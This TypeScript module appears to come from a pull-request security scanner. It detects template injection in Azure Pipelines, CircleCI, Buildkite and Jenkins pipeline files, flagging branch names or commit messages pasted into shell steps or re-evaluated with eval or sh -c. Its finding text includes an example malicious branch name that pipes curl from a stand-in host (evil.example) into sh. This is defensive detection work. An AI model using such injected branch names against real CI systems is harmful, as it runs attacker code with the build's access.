import type { Severity } from '../../signal/schema.js';
import type { SnapshotContent, SnapshotFile } from '../../snapshot/pr-snapshot.js';
import type { KeyedFinding } from '../finding.js';
import { makeFinding } from '../finding.js';
import { baseNameOf } from '../util.js';
import { isJenkinsPath, isPipelinePath } from './pipelines.js';

/**
 * Template injection in other CI systems' pipelines (ci-template-injection, docs/findings.md): text
 * an outsider writes (a branch name, a commit message) pasted into a command by the CI system before
 * a shell reads it, so that quotes and `$(…)` in the text become code:
 *
 * - Azure Pipelines' macros `$(System.PullRequest.SourceBranch)`, `$(System.PullRequest.SourceBranchName)`,
 *   `$(Build.SourceVersionMessage)` in `script:`, `bash:`, `powershell:`, `pwsh:` steps and a task's
 *   inline script: macro syntax is replaced in the step's text before the step runs.
 * - CircleCI's `<< pipeline.git.branch >>` in a `run:` command, and `<< parameters.NAME >>` where a
 *   job or command parameter NAME is given `<< pipeline.git.branch >>`: config templating inserts it
 *   when the configuration is compiled.
 * - Buildkite's `$BUILDKITE_MESSAGE` / `$BUILDKITE_BRANCH` in a pipeline file's `command:`:
 *   `buildkite-agent pipeline upload` interpolates the file's variables before the steps exist; `$$`
 *   (or `\$`) leaves the variable to the step's shell.
 * - Jenkins pipelines (Groovy): `${env.CHANGE_TITLE}`, `${CHANGE_BRANCH}`, `$env.CHANGE_AUTHOR_DISPLAY_NAME`
 *   (and the GitHub and GitLab plugins' `ghprbPullTitle`, `gitlabSourceBranch`…) inside a double-quoted
 *   (or triple-double-quoted) string given to `sh`, `bat`, `powershell` or `pwsh`: Groovy fills the
 *   string before the shell reads it (Jenkins' "String interpolation" warns of this injection); also a
 *   Groovy variable assigned from one (`def title = env.CHANGE_TITLE`). `\$` and single-quoted strings
 *   leave the variable to the shell.
 * - The same text read as a variable by the shell (`$CI_COMMIT_MESSAGE`, `$CI_MERGE_REQUEST_TITLE`,
 *   `$CI_COMMIT_BRANCH`, `$SYSTEM_PULLREQUEST_SOURCEBRANCH`, `$CIRCLE_BRANCH`…) is data, the safe form,
 *   unless the command evaluates it again: `eval "… $CI_COMMIT_MESSAGE"`, `sh -c "… $VAR"`,
 *   `echo "$VAR" | sh`.
 *
 * Line by line, with the keys each line sits under (by indentation); what the head has and the base
 * had not (by the line's text) is reported. Linear in the file's size, at most MAX_LINES lines.
 */

const MAX_LINES = 5_000;
const MAX_LINE = 2_000;

const MAX_TEXT = 400_000;
const AZURE = /^\.azure-pipelines\/|(?:^|\/)azure-pipelines[\w.-]{0,60}\.ya?ml$/i;
const CIRCLE = /^\.circleci\//i;
const BUILDKITE = /^\.buildkite\//i;

/** Keys whose text a shell (or PowerShell) runs. */
const COMMAND_KEY = /^(?:scripts?|commands?|run|pwsh|powershell|bash|sh|inlineScript|inline|[\w-]{1,80}_script)$/;
const KEY = /^\s*(?:-\s+)?['"]?([A-Za-z_][\w.-]{0,80})['"]?\s*:(?:\s|$)/;

const AZURE_MACRO = /\$\((System\.PullRequest\.SourceBranch(?:Name)?|Build\.SourceVersionMessage)\)/i;
/**
 * CircleCI pipeline values of an outsider's text: the branch, the checkout commit's subject and body,
 * and the GitHub App's and GitLab's trigger parameters for the branch and the commit message.
 */
const CIRCLE_BRANCH = /<<\s*(pipeline\.(?:git\.(?:branch|commit\.(?:subject|body))|trigger_parameters\.(?:github_app|gitlab)\.(?:branch|commit_message|commit_title)))\s*>>/;
const CIRCLE_PARAMETER = /<<\s*parameters\.([\w-]{1,80})\s*>>/g;
/** `$BUILDKITE_MESSAGE`, `${BUILDKITE_BRANCH}`, not `$$BUILDKITE_…` or `\$BUILDKITE_…` (left to the shell). */
const BUILDKITE_VARIABLE = /(?<![$\\])\$\{?(BUILDKITE_MESSAGE|BUILDKITE_BRANCH)\b/;

/**
 * Jenkins' variables for a pull request's text: the multibranch (branch-source) plugins' title, head
 * branch and author's display name, the GitHub Pull Request Builder's and the GitLab plugin's title,
 * description, branch and comment. Not `BRANCH_NAME` (`PR-12` for a pull request, else a branch of
 * the repository itself) nor `CHANGE_ID`, `CHANGE_AUTHOR` (a login).
 */
const JENKINS_VARIABLES =
  'CHANGE_TITLE|CHANGE_BRANCH|CHANGE_AUTHOR_DISPLAY_NAME|ghprbPullTitle|ghprbPullDescription|ghprbPullLongDescription|ghprbSourceBranch|ghprbCommentBody|' +
  'gitlabSourceBranch|gitlabMergeRequestTitle|gitlabMergeRequestDescription';
/** Environment variables holding an outsider's branch name, commit message or title, by CI system. */
const OUTSIDER_VARIABLES =
  'CI_COMMIT_MESSAGE|CI_COMMIT_TITLE|CI_COMMIT_DESCRIPTION|CI_COMMIT_BRANCH|CI_COMMIT_REF_NAME|CI_MERGE_REQUEST_TITLE|CI_MERGE_REQUEST_DESCRIPTION|CI_MERGE_REQUEST_SOURCE_BRANCH_NAME|' +
  'SYSTEM_PULLREQUEST_SOURCEBRANCH|BUILD_SOURCEVERSIONMESSAGE|CIRCLE_BRANCH|BUILDKITE_MESSAGE|BUILDKITE_BRANCH|BITBUCKET_BRANCH|DRONE_COMMIT_MESSAGE|DRONE_COMMIT_BRANCH|DRONE_SOURCE_BRANCH|DRONE_PULL_REQUEST_TITLE|CI_COMMIT_SOURCE_BRANCH|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME|CI_COMMIT_AUTHOR|' +
  JENKINS_VARIABLES;
/**
 * The variable evaluated again: inside a double-quoted or bare argument of `eval` or `sh -c`
 * (single quotes leave it to the inner shell, as data), or echoed into a shell.
 */
const EVALUATED = new RegExp(
  [
    String.raw`(?:^|[;&|({\s])eval\s+(?:"[^"\n]{0,300}?|[^'"\s;|&]{0,300}?)\$\{?(${OUTSIDER_VARIABLES})\b`,
    String.raw`\b(?:ba|z|da|k)?sh\s+-\w{0,4}c\s+(?:"[^"\n]{0,300}?|[^'"\s;|&]{0,300}?)\$\{?(${OUTSIDER_VARIABLES})\b`,
    String.raw`\b(?:echo|printf)\s+(?:-\w{1,4}\s+)?["']?\$\{?(${OUTSIDER_VARIABLES})\}?["']?\s*\|\s*(?:ba|z|da|k)?sh\b`,
  ].join('|'),
);

/** A Jenkins step that runs its string in a shell: `sh "…"`, `sh("…")`, `sh(script: """…""", returnStdout: true)`, `bat`, `powershell`, `pwsh`. */
const JENKINS_STEP = /(?<![\w./$-])(sh|bat|powershell|pwsh)\s{0,20}(?:\(\s{0,20}(?:script\s{0,20}:\s{0,20})?|\s)\s{0,20}("{3}|")/g;
/** A Groovy variable given a pull request's text: `def title = env.CHANGE_TITLE`, `String b = "${env.CHANGE_BRANCH}"`. */
const GROOVY_ASSIGNMENT = /^\s*(?:def|String|final|var)\s+(?:String\s+)?([A-Za-z_]\w{0,60})\s*=\s*(.{1,2000})$/;
const MAX_STRING = 20_000;
const JENKINS_VARIABLE = new RegExp(`^(?:${JENKINS_VARIABLES})$`);
/**
 * What follows a variable when Groovy cuts it down before the shell sees it: `.replaceAll(/[^\w.-]/, '-')`
 * (a negated class), a digest, a length, a boolean test.
 */
const SANITIZED_AFTER = /^\s{0,5}\.\s{0,5}(?:(?:replaceAll|replace)\s{0,5}\(\s{0,5}["'/~]{1,2}\[\^|(?:md5|sha1|sha256|encodeBase64|size|length|isEmpty|contains|startsWith|endsWith|matches|hashCode|toInteger)\b)/;
/** A Groovy expression reading one of them: `env.CHANGE_TITLE`, or the bare name first. */
const GROOVY_READ = new RegExp(`\\benv\\.(${JENKINS_VARIABLES})\\b|^\\s*(${JENKINS_VARIABLES})\\b`);

/** Where a Groovy string that opens with `quote` at `start` (just after the quote) ends: the index of its closing quote, or -1. */
function groovyStringEnd(text: string, start: number, quote: string): number {
  const limit = Math.min(text.length, start + MAX_STRING);
  for (let i = start; i < limit; i += 1) {
    const c = text.charAt(i);
    if (c === '\\') i += 1;
    else if (quote === '"' && c === '\n') return -1;
    else if (text.startsWith(quote, i)) return i;
  }
  return -1;
}

/**
 * The first pull-request variable a Groovy double-quoted string interpolates (`${env.CHANGE_TITLE}`,
 * `$CHANGE_BRANCH`, `${title}` for a tracked variable) and where; `\$` is left to the shell.
 */
function interpolatedIn(body: string, tracked: ReadonlyMap<string, string>): { what: string; at: number } | null {
  for (const m of body.matchAll(/(?<!\\)\$(\{)?\s{0,5}((?:env\.)?[A-Za-z_]\w{0,60})/g)) {
    const name = m[2]!.replace(/^env\./, '');
    // `${env.CHANGE_BRANCH.replaceAll(/[^\w-]/, '-')}`: cut down to plain characters, or a number or boolean of it.
    if (m[1] === '{' && SANITIZED_AFTER.test(body.slice(m.index + m[0].length, m.index + m[0].length + 100))) continue;
    if (JENKINS_VARIABLE.test(name)) return { what: `\${${m[2]!}}`, at: m.index };
    const from = m[2]!.startsWith('env.') ? undefined : tracked.get(name);
    if (from !== undefined) return { what: `\${${name}} (${from})`, at: m.index };
  }
  return null;
}

/**
 * A Jenkins pipeline's shell steps whose double-quoted Groovy string interpolates a pull request's
 * text, and the same text evaluated again by the shell (`sh 'eval "$CHANGE_TITLE"'`). Linear: one
 * pass over the steps, each string read once and at most MAX_STRING characters long.
 */
function jenkinsHits(text: string): Hit[] {
  const source = text.slice(0, MAX_TEXT);
  const lineStarts: number[] = [0];
  for (let i = source.indexOf('\n'); i >= 0; i = source.indexOf('\n', i + 1)) lineStarts.push(i + 1);
  const lineOf = (at: number): number => {
    let lo = 0;
    let hi = lineStarts.length - 1;
    while (lo < hi) {
      const mid = (lo + hi + 1) >> 1;
      if (lineStarts[mid]! <= at) lo = mid;
      else hi = mid - 1;
    }
    return lo;
  };
  const lineText = (index: number): string => {
    const start = lineStarts[index] ?? 0;
    return source.slice(start, Math.min((lineStarts[index + 1] ?? source.length + 1) - 1, start + MAX_LINE));
  };
  // What precedes a step on its line, at most 300 characters of it (a long line is not read again for each step on it).
  const commented = (at: number): boolean => {
    const before = source.slice(Math.max(lineStarts[lineOf(at)] ?? 0, at - 300), at).trimStart();
    return before.startsWith('*') || /(?:^|\s)\/[/*]/.test(before);
  };
  // Groovy variables given a pull request's text, in the order they are assigned.
  const tracked = new Map<string, string>();
  const hits: Hit[] = [];
  const assignments: { at: number; name: string; from: string | null }[] = [];
  // Followed in order, so a string built from a tracked variable is tracked too (`def url = "${env.CHANGE_BRANCH}/x"`, `def cmd = "curl ${url}"`).
  const running = new Map<string, string>();
  for (let index = 0; index < lineStarts.length && index < MAX_LINES; index += 1) {
    const assignment = GROOVY_ASSIGNMENT.exec(lineText(index));
    if (assignment === null) continue;
    const value = assignment[2]!;
    const read = GROOVY_READ.exec(value);
    const direct = read !== null && !SANITIZED_AFTER.test(value.slice(read.index + read[0].length, read.index + read[0].length + 100)) ? read : null;
    const bare = /^\s*([A-Za-z_]\w{0,60})\s*$/.exec(value)?.[1];
    const from = direct !== null ? `env.${direct[1] ?? direct[2]}` : bare !== undefined ? (running.get(bare) ?? null) : /^\s*"/.test(value) ? (interpolatedIn(value, running)?.what ?? null) : null;
    if (from !== null && running.size < 50) running.set(assignment[1]!, from);
    else running.delete(assignment[1]!);
    assignments.push({ at: lineStarts[index]!, name: assignment[1]!, from });
  }
  let next = 0;
  for (const m of source.matchAll(JENKINS_STEP)) {
    const at = m.index;
    while (next < assignments.length && assignments[next]!.at <= at) {
      const a = assignments[next]!;
      if (a.from !== null && tracked.size < 50) tracked.set(a.name, a.from);
      else tracked.delete(a.name);
      next += 1;
    }
    if (commented(at)) continue;
    const quote = m[2]!;
    const start = at + m[0].length;
    const end = groovyStringEnd(source, start, quote);
    if (end < 0) continue;
    const body = source.slice(start, end);
    const found = interpolatedIn(body, tracked);
    if (found === null) continue;
    // The line of the interpolation itself (a triple-quoted script spans lines).
    const line = lineOf(start + found.at);
    const last = hits[hits.length - 1];
    if (last?.line === line + 1 && last.what === found.what) continue;
    hits.push({ line: line + 1, text: lineText(line).trim(), what: found.what, how: 'pasted' });
  }
  // The shell evaluating the variable again: `sh 'eval "$CHANGE_TITLE"'`.
  for (let index = 0; index < lineStarts.length && index < MAX_LINES; index += 1) {
    const line = lineText(index);
    const trimmed = line.trim();
    if (trimmed.startsWith('//') || trimmed.startsWith('*')) continue;
    // The step's opening (`sh '`, `sh(script: """`) read as the start of the shell's command.
    const evaluated = EVALUATED.exec(line.replace(/\b(?:sh|bat|powershell|pwsh)\s{0,20}\(?\s{0,20}(?:script\s{0,20}:\s{0,20})?(?:'{3}|"{3}|'|")/, ' '));
    if (evaluated !== null && !hits.some((h) => h.line === index + 1)) hits.push({ line: index + 1, text: trimmed, what: `$${evaluated.slice(1).find((g) => g !== undefined) ?? ''}`, how: 'evaluated' });
  }
  return hits.sort((a, b) => a.line - b.line);
}

interface Hit {
  readonly line: number;
  readonly text: string;
  readonly what: string;
  readonly how: 'pasted' | 'evaluated';
}

function system(path: string): 'azure' | 'circleci' | 'buildkite' | 'jenkins' | 'other' {
  if (isJenkinsPath(path)) return 'jenkins';
  if (AZURE.test(path)) return 'azure';
  if (CIRCLE.test(path)) return 'circleci';
  if (BUILDKITE.test(path)) return 'buildkite';
  return 'other';
}

/** Where a line starts (its dash, for a list item) and where its key would start (after the dash). */
function columnsOf(line: string): { line: number; key: number } {
  const indent = line.length - line.trimStart().length;
  const dash = /^\s*-\s+/.exec(line);
  return { line: indent, key: dash === null ? indent : dash[0].length };
}

/** CircleCI parameters given the branch name: `branch: << pipeline.git.branch >>` outside a command. */
function circleBranchParameters(lines: readonly string[]): Map<string, string> {
  const names = new Map<string, string>();
  for (const line of lines) {
    const value = CIRCLE_BRANCH.exec(line)?.[1];
    if (value === undefined) continue;
    const key = KEY.exec(line)?.[1];
    if (key !== undefined && !COMMAND_KEY.test(key)) names.set(key.toLowerCase(), value);
  }
  return names;
}

function hitsIn(path: string, text: string): Hit[] {
  const kind = system(path);
  if (kind === 'jenkins') return jenkinsHits(text);
  const lines = text.split('\n').slice(0, MAX_LINES).map((l) => l.slice(0, MAX_LINE));
  const parameters = kind === 'circleci' ? circleBranchParameters(lines) : new Map<string, string>();
  const stack: { indent: number; key: string }[] = [];
  const hits: Hit[] = [];
  lines.forEach((line, index) => {
    const trimmed = line.trim();
    if (trimmed === '' || trimmed.startsWith('#')) return;
    // A key belongs to the keys above it that start left of the line (a list item's dash ends the previous item).
    const columns = columnsOf(line);
    while (stack.length > 0 && stack[stack.length - 1]!.indent >= columns.line) stack.pop();
    const key = KEY.exec(line)?.[1];
    const inCommand = (key !== undefined && COMMAND_KEY.test(key)) || stack.some((s) => COMMAND_KEY.test(s.key)) || (kind === 'azure' && stack.some((s) => s.key === 'inputs') && key !== undefined && /^(?:script|inlineScript|arguments)$/.test(key));
    if (key !== undefined) stack.push({ indent: columns.key, key });
    if (!inCommand) return;
    const found = (what: string, how: Hit['how']) => hits.push({ line: index + 1, text: trimmed, what, how });
    if (kind === 'azure') {
      const macro = AZURE_MACRO.exec(line);
      if (macro !== null) return found(`$(${macro[1]})`, 'pasted');
    } else if (kind === 'circleci') {
      const value = CIRCLE_BRANCH.exec(line);
      if (value !== null) return found(`<< ${value[1]} >>`, 'pasted');
      for (const m of line.matchAll(CIRCLE_PARAMETER)) {
        const given = parameters.get(m[1]!.toLowerCase());
        if (given !== undefined) return found(`<< parameters.${m[1]} >> (given << ${given} >>)`, 'pasted');
      }
    } else if (kind === 'buildkite') {
      const variable = BUILDKITE_VARIABLE.exec(line);
      if (variable !== null) return found(`$${variable[1]}`, 'pasted');
    }
    const evaluated = EVALUATED.exec(line);
    if (evaluated !== null) found(`$${evaluated.slice(1).find((g) => g !== undefined) ?? ''}`, 'evaluated');
  });
  return hits;
}

/** Azure Pipelines builds pull requests unless the file says `pr: none` (or `pr: []`, `pr: false`). */
function buildsPullRequests(path: string, text: string): boolean {
  if (system(path) !== 'azure') return true;
  return !/^pr:\s*(?:none|\[\s*\]|false)\s*(?:#.*)?$/m.test(text);
}

export function pipelineInjectionFindings(file: SnapshotFile, content: SnapshotContent | undefined): KeyedFinding[] {
  if (file.status === 'removed' || !isPipelinePath(file.path) || content?.head == null) return [];
  const head = hitsIn(file.path, content.head);
  if (head.length === 0) return [];
  const key = (h: Hit) => `${h.what}\u0000${h.text}`;
  const before = new Set(content.base == null ? [] : hitsIn(file.previousPath ?? file.path, content.base).map(key));
  const severity: Severity = buildsPullRequests(file.path, content.head) ? 'high' : 'medium';
  const kind = system(file.path);
  const name = { azure: 'Azure Pipelines', circleci: 'CircleCI', buildkite: 'Buildkite', jenkins: 'Groovy', other: 'The CI system' }[kind];
  const findings: KeyedFinding[] = [];
  const seen = new Set<string>();
  for (const hit of head) {
    if (before.has(key(hit)) || seen.has(key(hit))) continue;
    seen.add(key(hit));
    const why =
      hit.how === 'pasted'
        ? `${name} replaces ${hit.what} with its text before the shell reads the command`
        : `the shell expands ${hit.what} and then evaluates the result again as a command (\`eval\`, \`sh -c "…"\`, \`| sh\`)`;
    findings.push(
      makeFinding({
        id: 'ci-template-injection',
        severity,
        title: hit.how === 'pasted' ? `${hit.what} is pasted into a command of ${baseNameOf(file.path)}` : `${hit.what} is evaluated as code in ${baseNameOf(file.path)}`,
        detail:
          `\`${hit.text.slice(0, 160)}\`: ${why}. Whoever names the branch or writes the commit message of a pull request chooses that text: a branch named \`x";curl${'${IFS}'}-sSfL${'${IFS}'}evil.example|sh;#\` becomes a command of the pipeline, with what its build can reach. ` +
          (kind === 'jenkins'
            ? 'Fix: give the step a single-quoted string and let the shell read the variable quoted (`sh \'git checkout "$CHANGE_BRANCH"\'`), or escape it (`\\$CHANGE_BRANCH`); never evaluate it.'
            : 'Fix: read the value as an environment variable, quoted ("$SYSTEM_PULLREQUEST_SOURCEBRANCH", "$CIRCLE_BRANCH", "$$BUILDKITE_BRANCH"), and never evaluate it.'),
        path: file.path,
        line: hit.line,
        subject: `${hit.what}:${hit.text}`,
      }),
    );
  }
  return findings;
}
